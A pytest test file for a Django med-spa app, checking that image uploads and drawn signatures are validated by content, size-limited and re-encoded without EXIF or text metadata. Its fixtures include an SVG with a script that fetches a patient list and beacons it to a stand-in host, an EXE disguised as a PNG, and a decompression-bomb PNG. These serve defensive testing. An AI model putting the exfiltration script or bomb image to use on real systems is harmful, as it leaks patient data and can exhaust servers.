"""Uploads are images by their content, within a size and a pixel count, and are stored re-encoded.

Every path that stores an uploaded or drawn image is walked: the profile's headshot, photo ID and
signature, the drawn signature (profile, consent at the visit, GFE self-clearance, GFE review and the
outside clearer's link), and visit photos. An .exe named .png, an SVG with a script and a PNG whose header
declares 144 megapixels are refused; a real PNG or JPEG is stored as a fresh encoding without its metadata,
and a signature at most 1200x400 so that the exam PDF embeds a small picture."""

import base64
import functools
from io import BytesIO

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image, ImageDraw, ImageFile
from PIL.PngImagePlugin import PngInfo

from gfe.forms.dashboard import SelfClearanceForm
from gfe.forms.review import GfeDecisionForm
from gfe.models import GfeExam
from medspa import images
from medspa.forms.accounts import DrawnSignatureForm, ProfileForm
from medspa.models import ProviderProfile
from medspa.services import accounts as services
from medspa.tenancy import medspa_scope
from providers.forms.visits import PhotoForm
from providers.models import VisitPhoto
from providers.selectors import charts
from providers.services import charting
from services_catalog.services import catalog
from tests import factories

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.usefixtures("media_and_sms"),
]

EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"This program cannot be run"
)
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/patients/').then(r => r.text()).then(t => navigator.sendBeacon('//x.example', t))"
    b"</script></svg>"
)
SECRET = "GPS 32.7157,-117.1611"


@functools.cache
def bomb_png() -> bytes:
    """A 12000x12000 PNG (144 megapixels) that is about 20 KB on disk: one bit a pixel, all zeros."""
    buffer = BytesIO()
    Image.new("1", (12000, 12000)).save(buffer, format="PNG")
    return buffer.getvalue()


def drawing(size=(600, 200), mode="RGBA") -> Image.Image:
    image = Image.new(mode, size, "white")
    width, height = size
    ImageDraw.Draw(image).line(
        [(10, height - 10), (width // 3, 10), (2 * width // 3, height - 20), (width - 10, 20)],
        fill="black", width=max(3, width // 200),
    )  # fmt: skip
    return image


def png_with_text(size=(600, 200)) -> bytes:
    """A PNG carrying a text chunk, as cameras and editors write them."""
    info = PngInfo()
    info.add_text("Comment", SECRET)
    buffer = BytesIO()
    drawing(size).save(buffer, format="PNG", pnginfo=info)
    return buffer.getvalue()


def jpeg_with_exif(size=(800, 600)) -> bytes:
    """A JPEG with EXIF (the camera's make and a comment, as a phone writes its position)."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x010E] = SECRET  # ImageDescription
    buffer = BytesIO()
    drawing(size, mode="RGB").save(buffer, format="JPEG", exif=exif.tobytes())
    return buffer.getvalue()


def data_url(png: bytes) -> str:
    return "data:image/png;base64," + base64.b64encode(png).decode()


def upload(data: bytes, name: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="image/png")


def opened(data: bytes) -> Image.Image:
    image = Image.open(BytesIO(data))
    image.load()
    return image


def assert_clean(data: bytes, image_format: str) -> Image.Image:
    """The stored bytes open as `image_format` and carry no EXIF or text."""
    image = opened(data)
    assert image.format == image_format
    assert not image.getexif()
    assert SECRET.encode() not in data and b"PhoneMaker" not in data
    assert not getattr(image, "text", {})
    return image


# --- The normaliser ---------------------------------------------------------------------------------------


def test_an_exe_renamed_png_is_refused_by_its_content():
    with pytest.raises(images.ImageRefused, match=r"^This file is not a PNG or JPEG image\.$"):
        images.image_normalise(EXE, rule=images.HEADSHOT)


def test_an_svg_with_a_script_is_refused():
    with pytest.raises(images.ImageRefused, match="not a PNG or JPEG"):
        images.image_normalise(SVG, rule=images.HEADSHOT)


def test_a_gif_is_refused_though_pillow_reads_it():
    buffer = BytesIO()
    drawing(mode="RGB").save(buffer, format="GIF")
    with pytest.raises(images.ImageRefused, match="not a PNG or JPEG"):
        images.image_normalise(buffer.getvalue(), rule=images.HEADSHOT)


def test_a_144_megapixel_png_is_refused_from_its_header_without_decoding_its_pixels(monkeypatch):
    def no_decoding(self):
        raise AssertionError("the pixels were decoded")

    monkeypatch.setattr(ImageFile.ImageFile, "load", no_decoding)
    assert len(bomb_png()) < 100_000  # small on disk: only its header says how large it is
    for rule in (images.SIGNATURE, images.HEADSHOT, images.PHOTO_ID, images.VISIT_PHOTO):
        with pytest.raises(images.ImageRefused, match=r"This image is too large: at most \d+ megapixels\."):
            images.image_normalise(bomb_png(), rule=rule)


def test_a_file_larger_than_the_rule_is_refused_before_it_is_opened(monkeypatch):
    monkeypatch.setattr(Image, "open", lambda *args, **kwargs: pytest.fail("the file was opened"))
    with pytest.raises(images.ImageRefused, match=r"The file is larger than 5 MB\."):
        images.image_normalise(b"\x89PNG\r\n\x1a\n" + b"\x00" * (5 * 1024 * 1024), rule=images.HEADSHOT)


def test_a_png_is_re_encoded_without_its_text():
    uploaded = png_with_text()
    stored, image_format = images.image_normalise(uploaded, rule=images.HEADSHOT)
    assert image_format == "PNG" and stored != uploaded
    assert SECRET.encode() in uploaded
    assert assert_clean(stored, "PNG").size == (600, 200)


def test_a_jpeg_is_re_encoded_without_its_exif():
    uploaded = jpeg_with_exif()
    assert Image.open(BytesIO(uploaded)).getexif()[0x010F] == "PhoneMaker"
    stored, image_format = images.image_normalise(uploaded, rule=images.VISIT_PHOTO)
    assert image_format == "JPEG" and stored != uploaded
    assert assert_clean(stored, "JPEG").size == (800, 600)


def test_a_jpeg_is_turned_upright_before_its_exif_goes():
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: the camera was turned; viewers rotate it by 90 degrees
    buffer = BytesIO()
    drawing((800, 600), mode="RGB").save(buffer, format="JPEG", exif=exif.tobytes())
    stored, _ = images.image_normalise(buffer.getvalue(), rule=images.VISIT_PHOTO)
    assert assert_clean(stored, "JPEG").size == (600, 800)


def test_an_oversized_signature_is_downscaled_to_at_most_1200_by_400():
    buffer = BytesIO()
    drawing((4800, 1200)).save(buffer, format="PNG")
    stored = images.signature_normalise(buffer.getvalue())
    assert assert_clean(stored, "PNG").size == (1200, 300)


def test_a_jpeg_signature_is_stored_as_a_png():
    stored = images.signature_normalise(jpeg_with_exif((900, 300)))
    assert assert_clean(stored, "PNG").size == (900, 300)


# --- Every upload path --------------------------------------------------------------------------------------


def _profile_form(field):
    def make(data: bytes, name: str):
        form = ProfileForm(
            {"credential": "NP", "position": "Injector"},
            {field: upload(data, name)},
            instance=ProviderProfile(),
        )
        return form, field

    return make


def _photo_form(data: bytes, name: str):
    return PhotoForm({"kind": "before", "caption": ""}, {"image": upload(data, name)}), "image"


FILE_PATHS = {
    "profile headshot": (_profile_form("headshot"), images.HEADSHOT),
    "profile photo ID": (_profile_form("photo_id"), images.PHOTO_ID),
    "profile signature": (_profile_form("signature"), images.SIGNATURE),
    "visit photo": (_photo_form, images.VISIT_PHOTO),
}


@pytest.mark.parametrize("path", FILE_PATHS)
@pytest.mark.parametrize(
    "data, name, message",
    [
        (EXE, "me.png", "is not a PNG or JPEG image"),
        (SVG, "me.jpg", "is not a PNG or JPEG image"),
        (SVG, "me.svg", "is not a PNG or JPEG image"),
        (bomb_png(), "me.png", "This image is too large: at most"),
    ],
    ids=["exe named png", "svg named jpg", "svg", "144 megapixels"],
)
def test_each_upload_form_refuses_what_is_not_a_png_or_jpeg_within_its_limits(path, data, name, message):
    form, field = FILE_PATHS[path][0](data, name)
    assert not form.is_valid()
    assert message in " ".join(form.errors[field])


@pytest.mark.parametrize("path", FILE_PATHS)
@pytest.mark.parametrize(
    "make, image_format, suffix", [(png_with_text, "PNG", ".png"), (jpeg_with_exif, "JPEG", ".jpg")]
)
def test_each_upload_form_re_encodes_a_real_image_without_its_metadata(path, make, image_format, suffix):
    form, field = FILE_PATHS[path][0](make(), "photo.jpeg")
    assert form.is_valid(), form.errors
    cleaned = form.cleaned_data[field]
    cleaned.seek(0)
    stored = cleaned.read()
    rule = FILE_PATHS[path][1]
    expected = rule.store_as or image_format
    assert stored != make()
    image = assert_clean(stored, expected)
    assert image.width <= rule.max_width and image.height <= rule.max_height
    assert cleaned.name.endswith({"PNG": ".png", "JPEG": ".jpg"}[expected])


def test_a_photo_id_may_be_a_pdf_but_not_an_exe_named_pdf():
    form, _ = _profile_form("photo_id")(b"%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF", "licence.pdf")
    assert form.is_valid(), form.errors
    assert form.cleaned_data["photo_id"].name == "licence.pdf"
    form, _ = _profile_form("photo_id")(EXE, "licence.pdf")
    assert not form.is_valid()
    assert form.errors["photo_id"] == ["This file is not a PNG or JPEG image or a PDF."]


DATA_URL_PATHS = {
    "drawn signature (profile, visit consent)": lambda cast, value: DrawnSignatureForm({"data_url": value}),
    "GFE self-clearance": lambda cast, value: SelfClearanceForm(
        {"data_url": value}, medspa=cast.medspa_a, signature_on_file=False
    ),
    "GFE review and clearer link": lambda cast, value: GfeDecisionForm({"data_url": value}, services=[]),
}


@pytest.mark.parametrize("path", DATA_URL_PATHS)
def test_each_drawn_signature_form_refuses_a_144_megapixel_png(cast, path):
    with medspa_scope(cast.medspa_a):
        form = DATA_URL_PATHS[path](cast, data_url(bomb_png()))
        assert not form.is_valid()
    assert form.errors["data_url"] == ["This image is too large: at most 16 megapixels."]


@pytest.mark.parametrize("path", DATA_URL_PATHS)
@pytest.mark.parametrize("data", [EXE, SVG], ids=["exe", "svg"])
def test_each_drawn_signature_form_refuses_what_is_not_a_png(cast, path, data):
    for value in (data_url(data), "data:image/svg+xml;base64," + base64.b64encode(data).decode()):
        with medspa_scope(cast.medspa_a):
            form = DATA_URL_PATHS[path](cast, value)
            assert not form.is_valid()
        assert "data_url" in form.errors


@pytest.mark.parametrize("path", DATA_URL_PATHS)
def test_each_drawn_signature_form_downscales_the_drawing_and_drops_its_text(cast, path):
    drawn = png_with_text((3600, 1200))
    with medspa_scope(cast.medspa_a):
        form = DATA_URL_PATHS[path](cast, data_url(drawn))
        form.is_valid()
    assert "data_url" not in form.errors
    assert assert_clean(form.cleaned_data["data_url"], "PNG").size == (1200, 400)


# --- Stored through the pages and services ------------------------------------------------------------------


def test_the_profile_page_stores_each_file_re_encoded(client_as, cast):
    wide = BytesIO()
    drawing((3000, 600)).save(wide, format="PNG")
    response = client_as("provider_a1").post(
        "/profile/",
        {
            "credential": "NP",
            "position": "Injector",
            "headshot": upload(jpeg_with_exif(), "me.png"),
            "photo_id": upload(png_with_text(), "licence.jpg"),
            "signature": upload(wide.getvalue(), "signature.png"),
        },
    )
    assert response.status_code == 302
    with medspa_scope(cast.medspa_a):
        profile = ProviderProfile.objects.get(membership__user=cast.provider_a1)
        assert profile.headshot.name.endswith(".jpg") and profile.photo_id.name.endswith(".png")
    assert_clean(profile.headshot.read(), "JPEG")
    assert_clean(profile.photo_id.read(), "PNG")
    assert assert_clean(profile.signature.read(), "PNG").size == (1200, 240)


def test_the_profile_page_refuses_an_exe_named_png_and_stores_nothing(client_as, cast):
    response = client_as("provider_a1").post(
        "/profile/", {"credential": "NP", "position": "Injector", "headshot": upload(EXE, "me.png")}
    )
    assert response.status_code == 400
    assert "This file is not a PNG or JPEG image." in response.content.decode()
    with medspa_scope(cast.medspa_a):
        assert (
            not ProviderProfile.objects.filter(membership__user=cast.provider_a1)
            .exclude(headshot="")
            .exists()
        )


def test_a_drawn_profile_signature_is_stored_at_most_1200_by_400(client_as, cast):
    response = client_as("provider_a1").post(
        "/profile/signature/", {"data_url": data_url(png_with_text((2400, 1200)))}
    )
    assert response.status_code == 302
    with medspa_scope(cast.medspa_a):
        profile = ProviderProfile.objects.get(membership__user=cast.provider_a1)
        assert assert_clean(profile.signature.read(), "PNG").size == (800, 400)


def test_the_drawn_signature_service_refuses_bytes_that_are_not_an_image(cast):
    with medspa_scope(cast.medspa_a):
        membership = cast.provider_a1.memberships.get()
        with pytest.raises(images.ImageRefused):
            services.profile_signature_draw(membership=membership, png=EXE)
        assert not ProviderProfile.objects.filter(membership=membership).exclude(signature="").exists()


def test_a_visit_photo_is_stored_without_its_exif(client_as, visit):
    response = client_as("provider_a1").post(
        reverse("providers:visit_photo_add", args=[visit.pk]),
        {"kind": "before", "caption": "", "image": upload(jpeg_with_exif(), "before.png")},
    )
    assert response.status_code == 302
    with medspa_scope(visit.medspa_id):
        photo = VisitPhoto.objects.get()
    assert photo.image.name.endswith(".jpg")
    assert_clean(photo.image.read(), "JPEG")


def test_a_visit_photo_page_refuses_an_svg(client_as, visit):
    response = client_as("provider_a1").post(
        reverse("providers:visit_photo_add", args=[visit.pk]),
        {"kind": "before", "caption": "", "image": upload(SVG, "before.svg")},
    )
    assert "This file is not a PNG or JPEG image." in response.content.decode()
    assert not VisitPhoto.objects.exists()


def test_a_consent_signature_is_stored_at_most_1200_by_400(cast, visit):
    with medspa_scope(cast.medspa_a):
        need = charts.consents_needed(visit)[0]
        signed = charting.visit_consent_sign(
            visit=visit, version=need.version, signature_png=png_with_text((3000, 1000)), by=cast.provider_a1,
            ip=None,
        )  # fmt: skip
    assert assert_clean(signed.signature.signature.read(), "PNG").size == (1200, 400)


def test_a_consent_signed_with_a_144_megapixel_drawing_is_refused(cast, visit):
    with medspa_scope(cast.medspa_a):
        need = charts.consents_needed(visit)[0]
        with pytest.raises(charting.ChartingRefused, match="too large"):
            charting.visit_consent_sign(
                visit=visit, version=need.version, signature_png=bomb_png(), by=cast.provider_a1, ip=None
            )


def test_an_exam_signed_with_a_large_signature_on_file_keeps_it_at_most_1200_by_400(client_as, cast):
    with medspa_scope(cast.medspa_a):
        service = catalog.service_import(medspa=cast.medspa_a, library_service=factories.library_service())
        service = catalog.service_set_active(service=service, active=True)
        patient = factories.PatientFactory(medspa=cast.medspa_a)
        membership = cast.provider_a1.memberships.get()
        patient.assigned_providers.add(membership)
    # Stored before uploads were re-encoded: a full-page drawing at 3000x1500.
    page = BytesIO()
    drawing((3000, 1500)).save(page, format="PNG")
    membership.provider_profile.signature.save("signature.png", ContentFile(page.getvalue()))
    response = client_as("provider_a1").post(
        reverse("gfe_provider:self_clear", args=[patient.pk]),
        {
            "history_reviewed": "on",
            "medications_reviewed": "on",
            "allergies_reviewed": "on",
            "services": [service.pk],
            "data_url": "",
        },
    )
    assert response.status_code == 302
    with medspa_scope(cast.medspa_a):
        assert assert_clean(GfeExam.objects.get().signature.read(), "PNG").size == (800, 400)
